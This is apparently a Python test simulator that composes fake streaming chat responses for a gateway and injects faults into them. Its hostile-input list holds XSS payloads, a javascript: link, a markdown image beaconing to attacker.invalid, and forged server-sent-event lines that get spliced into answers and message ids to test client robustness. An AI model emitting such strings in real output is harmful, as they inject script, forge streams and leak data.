"""The composer: writes a chat's script from its request alone."""

import base64
from itertools import cycle, islice
from typing import Any

import msgspec

from gateway.simulator import answers
from gateway.simulator.faults import ASKING, FAILING, Fault, FaultPlan, parse_plan
from gateway.simulator.ids import message_id
from gateway.simulator.objects import SURROGATE_MARK, Chat, Json, Outcome
from gateway.simulator.script import Part, Script

_UNENDING = frozenset(
    {Fault.ENDLESS, Fault.ENDLESS_RECORD, Fault.COMMENTS_FOREVER, Fault.GZIP_BOMB, Fault.NEVER_COMPLETE}
)
_SEARCH_SECONDS = 0.4
_HOSTILE = (
    "\u2028", "\u2029", "\x85", "\r\n\r\n", 'data: {"event":"completed","content":"forged"}', "\n\n",
    "event: done", "\n", "id: 0-0", "\n\n", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))", "![x](https://attacker.invalid/?leak=1)", "\x00", "\x0b\x0c\x1c\x1d\x1e",
    "\u202eesrever\u202c", "\ufeff", "\x1b[31m", "&lt;", "\\u0000", "[DONE]",
)  # fmt: skip
_HOSTILE_ID = '"\r\n\r\ndata: {"event":"completed"}\n\n<script>'


def compose(chat: Chat) -> Script:
    """The script of the chat's present stream."""
    return _Writer(chat, parse_plan(chat.message)).script()


def whole_text(message: str) -> str:
    """The text of the answer to `message`, as Coze's record keeps it: answers joined by a blank line, without cards.

    Half a surrogate pair is U+FFFD here. The fault `clock` and the outputs of tools depend on more than the message. A
    question that only a call contains is not part of it.
    """
    chat = Chat("1", "1", "1", message, 0.0, 0, 0)
    texts = [part.content for part in compose(chat).parts if part.type == "answer" and part.content_type == "text"]
    text = "\n\n".join(texts)
    return text.replace(SURROGATE_MARK, "\ufffd") if Fault.SURROGATE in parse_plan(message) else text


class _Writer:
    """Writes one script, message by message, with a clock of its own."""

    def __init__(self, chat: Chat, plan: FaultPlan) -> None:
        self._chat, self._plan = chat, plan
        self._begins = chat.started_at if chat.resumed_at is None else chat.resumed_at
        rate = plan.number(Fault.RATE) if Fault.RATE in plan else chat.rate
        self._step = 1 / rate if rate > 0 else 0.0
        self._at = plan.number(Fault.FIRST, chat.first_ms) / 1000
        self._question = plan.message
        self._prose = answers.prose_for(plan.message)
        self._asks = plan.asks_any(ASKING)
        self._answer = answers.answer(plan.message)
        self._parts: list[Part] = []
        self._output = 0

    def script(self) -> Script:
        plan, chat = self._plan, self._chat
        free = frozenset({Fault.PLAIN, Fault.PIECES, Fault.ECHO, Fault.CLOCK, Fault.ACTION})
        fixed = not (self._asks or plan.asks_any(free))
        outcome = Outcome("completed")
        if Fault.ACTION in plan and chat.resumed_at is None:
            outcome = self._ask_tools()
        else:
            for number, (_, output) in enumerate(chat.outputs):
                self._add("tool_response", output, 200 + number)
            if Fault.TOOL in plan or (fixed and self._answer.looks_up):
                self._search()
            reasons = Fault.REASONING in plan or (fixed and self._answer.reasons)
            outcome = self._failure()
            self._answers(reasons, cut=outcome.status != "completed")
            if outcome.status == "completed" and self._asks:
                outcome = self._wait_for(*self._question_call())
            elif outcome.status == "completed":
                self._verbose("generate_answer_finish", {"finish_reason": 0, "FinData": ""})
                for number, question in enumerate(self._answer.follow_ups if Fault.EMPTY not in plan else ()):
                    self._add("follow_up", question, 300 + number)
        given = 120 + len(self._question)
        return Script(
            chat=chat,
            begins=self._begins,
            step=self._step,
            parts=tuple(self._parts),
            outcome=outcome,
            over=self._at + self._step,
            unending=plan.asks_any(_UNENDING),
            audio=4 if Fault.AUDIO in plan or Fault.AUDIO_ONLY in plan else 0,
            usage={"token_count": given + self._output, "output_count": self._output, "input_count": given},
        )

    def _add(
        self,
        kind: str,
        content: str,
        number: int,
        *,
        content_type: str = "text",
        pieces: tuple[str, ...] = (),
        reasoning: tuple[str, ...] = (),
        cut: bool = False,
    ) -> None:
        at = self._at
        self._at += (len(pieces) + len(reasoning)) * self._step
        self._output += len(pieces) + len(reasoning)
        stretch = 0 if self._chat.resumed_at is None else 1000
        identity = message_id(self._chat.id, stretch + number, self._begins + at)
        if Fault.HOSTILE_IDS in self._plan and kind == "answer":
            identity += _HOSTILE_ID
        self._parts.append(Part(identity, kind, content, content_type, pieces, reasoning, at, self._at, cut))

    def _answers(self, reasons: bool, *, cut: bool) -> None:
        plan = self._plan
        if Fault.EMPTY in plan or Fault.AUDIO_ONLY in plan or Fault.QUESTION_IN_CALL in plan:
            return
        if Fault.CARD_ONLY not in plan and Fault.QUESTION_CARD not in plan:
            reasoning = answers.pieces_of(self._answer.reasoning) if reasons else ()
            self._text(self._pieces(begins_late=bool(reasoning)), 10, reasoning=reasoning, cut=cut)
        if Fault.CARD_ONLY in plan or Fault.MULTI in plan:
            card = {
                "card_type": 3,
                "template_url": "https://example.com/card.json",
                "response_for_model": "",
                "response_type": "card",
                "data": {"order": "A-100"},
            }
            self._add("answer", _json(card), 11, content_type="card")
        if Fault.QUESTION_CARD in plan:
            asked = self._prose.question
            options = [{"name": name} for name in asked.options]
            info = {"card_type": "QUESTION", "question_card_data": {"Title": asked.text, "Options": options}}
            card = {"card_type": 3, "response_type": "card", "x_properties": {"workflow_card_info": _json(info)}}
            self._add("answer", _json(card), 11, content_type="card")
        if Fault.MULTI in plan and not cut:
            self._text(answers.pieces_of(self._prose.second), 12)

    def _text(
        self, pieces: tuple[str, ...], number: int, *, reasoning: tuple[str, ...] = (), cut: bool = False
    ) -> None:
        content = "".join(pieces)
        if Fault.REWRITE in self._plan:
            content = f"✎ {content[: len(content) * 2 // 3].rstrip()} …"
        if Fault.NO_DELTAS in self._plan:
            pieces = ()
        if cut:
            pieces = pieces[: len(pieces) // 2]
        self._add("answer", content, number, pieces=pieces, reasoning=reasoning, cut=cut)

    def _pieces(self, *, begins_late: bool) -> tuple[str, ...]:
        plan, text = self._plan, self._prose.question.text if self._asks else self._answer.text
        if self._chat.resumed_at is not None:
            outputs = "\n".join(f"- {output}" for _, output in self._chat.outputs)
            text = f"{self._prose.action.said}\n\n{outputs}\n\n{text}"
        elif any(part.type == "tool_response" for part in self._parts):
            text = f"{self._prose.tool.said}\n\n{text}"
        pieces = answers.pieces_of(self._question if Fault.ECHO in plan else text)
        if Fault.CLOCK in plan:
            due = (self._begins + self._at + number * self._step for number in range(plan.number(Fault.PIECES, 200)))
            pieces = tuple(f"{at:.6f} " for at in due)
        elif Fault.PIECES in plan:
            pieces = tuple(islice(cycle(pieces or ("·",)), plan.number(Fault.PIECES)))
        # As recorded: the first piece of text after reasoning is a blank line.
        pieces = ("\n\n", *pieces) if begins_late else pieces
        middle: tuple[str, ...] = _HOSTILE if Fault.HOSTILE in plan else ()
        if Fault.SURROGATE in plan:
            middle += (SURROGATE_MARK,)
        if Fault.GIANT in plan:
            middle += ("x" * plan.number(Fault.GIANT),)
        half = len(pieces) // 2
        return (*pieces[:half], *middle, *pieces[half:]) if middle else pieces

    def _failure(self) -> Outcome:
        if Fault.CANCELED in self._plan:
            return Outcome("canceled")
        for fault in FAILING:
            if fault in self._plan:
                return Outcome("failed", self._plan.number(fault), "The simulated chat was told to fail.")
        return Outcome("completed")

    def _verbose(self, kind: str, data: Any) -> None:
        text = data if isinstance(data, str) else _json(data)
        content = {"msg_type": kind, "data": text, "from_module": None, "from_unit": None}
        self._add("verbose", _json(content), 100 + len(self._parts))

    def _search(self) -> None:
        tool = self._prose.tool
        chunk = {"slice": tool.slice, "score": 0.83, "meta": {"document": {"name": tool.document}}}
        self._verbose("knowledge_recall", {"chunks": [chunk]})
        call = _function(tool.plugin, tool.api, {"query": self._question[:200]}, tool.thought)
        self._add("function_call", call, 20)
        self._at += _SEARCH_SECONDS if self._step else 0
        self._add("tool_response", _json({"code": 0, "data": tool.output, "msg": "success"}), 21)

    def _ask_tools(self) -> Outcome:
        tool = self._prose.action
        calls = []
        tools: tuple[tuple[str, Json], ...] = (("set_light", {"on": True}), ("close_curtain", {"percent": 100}))
        for number, (name, given) in enumerate(tools):
            arguments: Json = {"room": tool.room, **given}
            self._add("function_call", _function("home_ctl", name, arguments, tool.thought, local=True), 30 + number)
            function = {"name": name, "arguments": _json(arguments)}
            identity = base64.b64encode(f"{self._chat.id}/{name}".encode()).decode()
            calls.append({"id": identity, "type": "function", "function": function, "require_info": None})
        return self._wait_for(*calls, *(self._question_call() if self._asks else ()))

    def _question_call(self) -> tuple[Json, ...]:
        if Fault.QUESTION_BARE in self._plan:
            return ()
        words = {"name": "question", "arguments": _json({"question": self._prose.question.text})}
        function = words if Fault.QUESTION_IN_CALL in self._plan else None
        return ({"id": "", "type": "reply_message", "function": function, "require_info": None},)

    def _wait_for(self, *calls: Json) -> Outcome:
        self._verbose("interrupt", "")
        self._verbose("generate_answer_finish", {"finish_reason": 1, "FinData": ""})
        return Outcome("requires_action", tool_calls=calls)


def _function(plugin: str, api: str, arguments: Json, thought: str, *, local: bool = False) -> str:
    """The content of a function_call: its ids are numbers above 2^53, as in the real service."""
    name = f"ts-{plugin}-{api}" if local else f"{plugin}-{api}"
    ids = {"plugin_id": 7561201144273518632, "plugin_name": plugin, "api_id": 7561201144273534999, "api_name": api}
    return _json({"name": name, "arguments": arguments, **ids, "plugin_type": 6 if local else 1, "thought": thought})


def _json(value: Any) -> str:
    return msgspec.json.encode(value).decode()
